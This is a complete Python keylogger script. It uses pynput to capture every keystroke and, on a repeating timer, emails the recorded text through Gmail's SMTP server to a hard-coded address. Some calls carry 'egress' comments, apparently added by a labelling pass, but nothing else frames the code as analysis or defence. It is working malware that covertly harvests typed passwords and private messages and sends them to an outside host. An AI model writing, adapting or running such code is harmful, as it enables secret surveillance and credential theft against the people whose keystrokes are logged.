from pynput.keyboard import Key, Listener
import smtplib, threading

class Log:
    def __init__(self, every, addr, pw):
        self.buf = ""
        self.every, self.addr, self.pw = every, addr, pw

    def press(self, key):
        try:
            self.buf += key.char
        except AttributeError:
            self.buf += " " if key == Key.space else f"[{key}]"

    def flush(self):
        if self.buf:
            server = smtplib.SMTP("smtp.gmail.com", 587)  # egress
            server.starttls()
            server.login(self.addr, self.pw)  # egress sensitive
            server.sendmail(self.addr, self.addr, self.buf)  # egress sensitive
            server.quit()
            self.buf = ""
        t = threading.Timer(self.every, self.flush)
        t.daemon = True
        t.start()

    def run(self):
        with Listener(on_press=self.press) as listener:
            self.flush()
            listener.join()

Log(60, "me@gmail.com", "hunter2").run()
